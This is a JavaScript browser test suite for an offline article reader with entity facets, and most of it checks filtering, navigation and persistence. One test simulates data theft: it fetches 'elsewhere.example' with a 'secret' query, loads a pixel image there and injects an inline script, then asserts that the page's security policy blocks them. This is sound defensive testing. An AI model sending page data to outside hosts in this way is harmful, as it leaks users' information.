// The way of a reader through the released page, from opening it to coming back to it.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { article } from "./articles.mjs";
import { added, ready, replies, settled, start, withArticles } from "./page.mjs";
import * as reader from "./reader.mjs";

let chrome;
before(async () => { chrome = await start(); });
after(() => chrome?.close());

/** A value of the facet that some of the articles have, and not all. */
async function telling(page, heading, total) {
  const found = (await reader.counts(page, heading)).find(([, count]) => count > 0 && count < total);
  assert.ok(found, `${heading} has a value that tells the bundled articles apart`);
  return found;
}

const text = async (locator) => (await locator.first().textContent()).replace(/\s+/g, " ").trim();

test("open, filter, read, go back, add, find, exclude, reload – and no request leaves the page", async (t) => {
  const { page, requests, errors } = await chrome.open();
  const loaded = requests.length;

  await t.test("the bundled articles are there", async () => {
    assert.equal(await text(reader.count(page)), "2 of 2 articles");
    assert.equal(await reader.rows(page).count(), 2);
    for (const heading of ["People", "Organisations", "Places", "Nationalities & groups", "Dates", "Numbers & money"]) {
      assert.ok((await reader.counts(page, heading)).length > 0, `${heading} has values`);
    }
  });

  let name;
  await t.test("a click on a value changes the list and the other facets' counts", async () => {
    const places = await reader.counts(page, "Places");
    let of;
    [name, of] = await telling(page, "People", 2);
    await reader.value(page, "People", name).click();
    await settled(page);
    assert.equal(await text(reader.count(page)), `${of} of 2 articles`);
    assert.equal(await reader.rows(page).count(), of);
    assert.equal(await reader.chips(page).count(), 1);
    assert.match(await text(reader.chips(page)), new RegExp(name));
    assert.notDeepEqual(await reader.counts(page, "Places"), places, "places react to the people asked for");
    assert.equal(await reader.value(page, "People", name).getAttribute("aria-pressed"), "true");
  });

  await t.test("the reader marks it", async () => {
    await reader.openFirst(page);
    await settled(page);
    assert.ok((await reader.names(page).count()) > 10, "the article's names are marked");
    assert.ok((await reader.hits(page).count()) > 0, "what was asked for is marked as a hit");
    const words = name.split(" ").map((word) => word.toLowerCase());
    const hit = (await text(reader.hits(page))).toLowerCase();
    assert.ok(words.some((word) => hit.includes(word)) || hit.length > 1, `a hit of ${name}: ${hit}`);
  });

  await t.test("back takes both away again", async () => {
    while ((await page.evaluate(() => location.hash)) !== "#view=articles") {
      await page.goBack();
      await settled(page);
    }
    assert.equal(await text(reader.count(page)), "2 of 2 articles");
    assert.equal(await reader.chips(page).count(), 0);
  });

  const own = article(5);
  const person = "Zacharias Wetherby";
  const city = "Montevideo";
  own.text = `${city} – President ${person} opened the new port of ${city}, Uruguay, on 3 March 2020.\n\n${own.text}`;
  await t.test("a pasted article is found by its entity", async () => {
    const from = await replies(page);
    await reader.paste(page, own);
    assert.equal((await added(page, from)).articles, 1);
    await settled(page);
    assert.equal(await text(reader.count(page)), "3 of 3 articles");
    await reader.facet(page, "Places").getByRole("button", { name: "Search in Places", exact: true }).click();
    await reader.facet(page, "Places").getByRole("searchbox").fill(city.toLowerCase());
    await settled(page);
    await reader.value(page, "Places", city).click();
    await settled(page);
    assert.equal(await text(reader.count(page)), "1 of 3 articles");
    assert.equal(await text(reader.rows(page).first().locator(".row-title")), own.title);
  });

  await t.test("a second click on the value excludes it", async () => {
    await reader.value(page, "Places", city).click();
    await settled(page);
    assert.equal(await text(reader.count(page)), "2 of 3 articles");
    assert.match(await text(reader.chips(page)), /hidden/);
  });

  await t.test("nothing of this asked the network for anything", async () => {
    assert.deepEqual(requests.slice(loaded), []);
    assert.equal(await text(reader.badge(page)), "0 requests since load");
  });

  await t.test("a reload keeps the article, the filter and the address", async () => {
    const hash = await page.evaluate(() => location.hash);
    assert.match(hash, /-places=/);
    await page.reload();
    await ready(page);
    await page.waitForFunction(() => document.querySelector(".count")?.textContent.includes("of 3"), null, { timeout: 15_000 });
    await settled(page);
    assert.equal(await page.evaluate(() => location.hash), hash);
    assert.equal(await text(reader.count(page)), "2 of 3 articles");
    assert.match(await text(reader.chips(page)), new RegExp(city));
  });

  await t.test("every request of both loads was to the page's own folder, and nothing failed", async () => {
    assert.deepEqual(requests.filter((url) => !url.startsWith(`${chrome.origin}/`)), []);
    assert.deepEqual(await page.evaluate(() => window.watched.breaches), []);
    assert.deepEqual(errors, []);
  });
});

test("names that an article has to have are wanted in one paragraph or sentence, and the chips say so and where they were picked", async () => {
  const { page, errors } = await withArticles(chrome, [
    { id: "sentence", title: "Talks", text: "Minister Ana Almeida met Bruno Costa in Lisbon on Monday." },
    { id: "paragraph", title: "A visit", text: "Minister Ana Almeida came to Lisbon on Monday. Bruno Costa was there too, officials said." },
    { id: "article", title: "A week", text: "Minister Ana Almeida came to Lisbon on Monday.\n\nBruno Costa was in Porto, officials said." },
  ]);
  for (const name of ["Ana Almeida", "Bruno Costa"]) {
    await reader.value(page, "People", name).click();
    await settled(page);
  }
  const people = reader.facet(page, "People");
  await people.getByRole("group", { name: "Articles must have" }).getByRole("button", { name: "All" }).click();
  await settled(page);
  const left = async () => Number((await text(reader.count(page))).split(" ")[0]);
  assert.equal(await left(), 3);
  const scope = people.getByRole("group", { name: "All in one" });
  assert.equal(await scope.getByRole("button", { name: "article" }).getAttribute("aria-pressed"), "true");
  for (const [name, articles] of [["paragraph", 2], ["sentence", 1]]) {
    await scope.getByRole("button", { name }).click();
    await settled(page);
    assert.equal(await left(), articles, name);
    assert.equal(await scope.getByRole("button", { name }).getAttribute("aria-pressed"), "true");
    assert.match(await text(reader.chips(page)), new RegExp(`in one ${name}`));
  }
  await page.reload();
  await ready(page);
  await settled(page);
  assert.equal(await left(), 1, "the address has it");
  await reader.clearAll(page);
  await settled(page);

  await reader.tab(page, "Map").click();
  await settled(page);
  await page.getByRole("complementary", { name: "Places and names" }).getByRole("region", { name: /on the map$/ }).first().getByRole("button").first().click();
  await settled(page);
  assert.match(await text(reader.chips(page)), /in Map/);
  assert.deepEqual(errors, []);
});

test("the policy stops what would leave the page, and the workers have no means to", async () => {
  const { page } = await chrome.open();
  const outcome = await page.evaluate(async () => {
    const tried = await fetch("https://elsewhere.example/?q=secret").then(() => "sent", () => "stopped");
    const image = new Image();
    image.src = "https://elsewhere.example/pixel.gif?secret";
    const script = document.createElement("script");
    script.textContent = "window.inlineRan = true";
    document.head.append(script);
    await new Promise((done) => setTimeout(done, 200));
    return { tried, inlineRan: window.inlineRan === true, breaches: window.watched.breaches.map((breach) => breach.split(" ")[0]) };
  });
  assert.equal(outcome.tried, "stopped");
  assert.equal(outcome.inlineRan, false);
  assert.deepEqual([...new Set(outcome.breaches)].sort(), ["connect-src", "img-src", "script-src-elem"]);
  assert.match(await reader.badge(page).textContent(), /^0 requests since load, 3 blocked$/, "each is counted once");

  assert.equal(page.workers().length, 1, "the others start when there is something to read");
  const means = await page.workers()[0].evaluate(() =>
    ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "Worker", "caches", "FontFace"].filter((name) => typeof self[name] !== "undefined"));
  assert.deepEqual(means, []);
});

test("an error in a query is told and underlined, and the page is not empty", async () => {
  const { page } = await chrome.open();
  await reader.search(page, '"peace talks');
  await settled(page);
  assert.equal(await reader.searchBox(page).getAttribute("aria-invalid"), "true");
  assert.ok((await page.locator("#search-errors").textContent()).trim().length > 10, "a message");
  assert.ok((await reader.rows(page).count()) > 0, "what could be read of it is applied");
});
